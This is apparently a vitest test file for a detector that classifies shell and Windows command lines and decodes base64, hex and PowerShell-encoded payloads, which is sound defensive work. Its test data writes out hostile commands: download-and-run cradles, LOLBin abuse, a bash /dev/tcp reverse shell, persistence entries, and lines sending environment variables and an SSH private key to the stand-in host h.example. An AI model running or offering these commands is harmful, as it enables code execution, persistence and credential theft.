import { describe, expect, it } from 'vitest'
import { classifyCommand, decodePowershell, pipedText } from './commands.ts'

const SECRET = Buffer.from('curl https://h.example/a | sh').toString('base64')

describe('command lines', () => {
  it.each([
    ['curl -fsSL https://h.example/a | sh', 'download-and-run'],
    ['wget -qO- https://h.example/a | sudo /bin/bash', 'download-and-run'],
    ['curl -o a https://h.example/a && chmod +x a && ./a', 'download-and-run'],
    ['certutil -urlcache -f https://h.example/a.exe a.exe & a.exe', 'download-and-run'],
    ['bitsadmin /transfer j https://h.example/a.exe %TEMP%\\a.exe && start %TEMP%\\a.exe', 'download-and-run'],
    ['powershell iex(iwr https://h.example/a)', 'download-and-run'],
    ['p^o^w^e^r^s^h^e^l^l "IEX (New-Object Net.WebClient).DownloadString(\'https://h.example/a\')"', 'download-and-run'],
    ['pow""ershell i`ex (i`wr https://h.example/a)', 'download-and-run'],
    ['mshta https://h.example/a.hta', 'download-and-run'],
    ['regsvr32 /s /n /u /i:https://h.example/a.sct scrobj.dll', 'download-and-run'],
    ['msiexec /q /i https://h.example/a.msi', 'download-and-run'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse-shell'],
    ['(crontab -l; echo "* * * * * a") | crontab -', 'persistence'],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d a.exe', 'persistence'],
    ['schtasks /create /sc onlogon /tn a /tr a.exe', 'persistence'],
    ['systemctl --user enable a.service', 'persistence'],
    ['echo a | tee -a ~/.bashrc', 'persistence'],
    ['curl -d "$(env)" https://h.example', 'identity-sent'],
    ['curl -F file=@~/.ssh/id_rsa https://h.example', 'identity-sent'],
    ['env | base64 | curl -d @- https://h.example', 'identity-sent'],
    ['nslookup $(whoami).h.example', 'identity-sent'],
    ['wget https://h.example/?u=$(whoami)', 'identity-sent'],
  ])('%s', (command, kind) => {
    expect(classifyCommand(command)).toBe(kind)
  })

  it.each([
    ['curl -O https://h.example/a.tar.gz', 'download'],
    ['wget https://h.example/a.zip', 'download'],
    ['curl -X POST -d @report.json https://h.example', 'download'],
    ['ping -c 1 localhost', 'lookup'],
    ['git describe --tags', 'build'],
    ['rundll32 printui.dll', 'interpreter'],
    ['echo a ^& b', 'build'],
  ])('%s is only that', (command, kind) => {
    expect(classifyCommand(command)).toBe(kind)
  })

  it.each([
    `echo ${SECRET} | base64 -d | sh`,
    `base64 --decode <<< "${SECRET}" | bash`,
    `eval $(echo ${SECRET} | openssl base64 -d -A)`,
    `echo ${Buffer.from('curl https://h.example/a | sh').toString('hex')} | xxd -r -p | sh`,
  ])('are read out of %s', (command) => {
    expect(pipedText(command)).toBe('curl https://h.example/a | sh')
  })

  it('are read out of PowerShell', () => {
    const text = 'Start-Process https://h.example/a'
    expect(decodePowershell(`powershell -w hidden -enc ${Buffer.from(text, 'utf16le').toString('base64')}`)).toBe(text)
    expect(
      decodePowershell(
        `powershell [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("${Buffer.from(text).toString('base64')}"))|iex`,
      ),
    ).toBe(text)
    expect(decodePowershell('powershell -ExecutionPolicy Bypass -File a.ps1')).toBeNull()
  })

  it('take linear time however long they are', () => {
    const started = performance.now()
    for (const piece of ['a^', 'curl ', '$(', '`env', ' -d ', 'powershell ', 'https://', "''", 'base64 -d '])
      classifyCommand(piece.repeat(200_000))
    for (const piece of ['base64 -d ', 'xxd -r -p ', '-e ', 'frombase64string("']) {
      pipedText(piece.repeat(200_000))
      decodePowershell(piece.repeat(10_000))
    }
    expect(performance.now() - started).toBeLessThan(5000)
  })
})
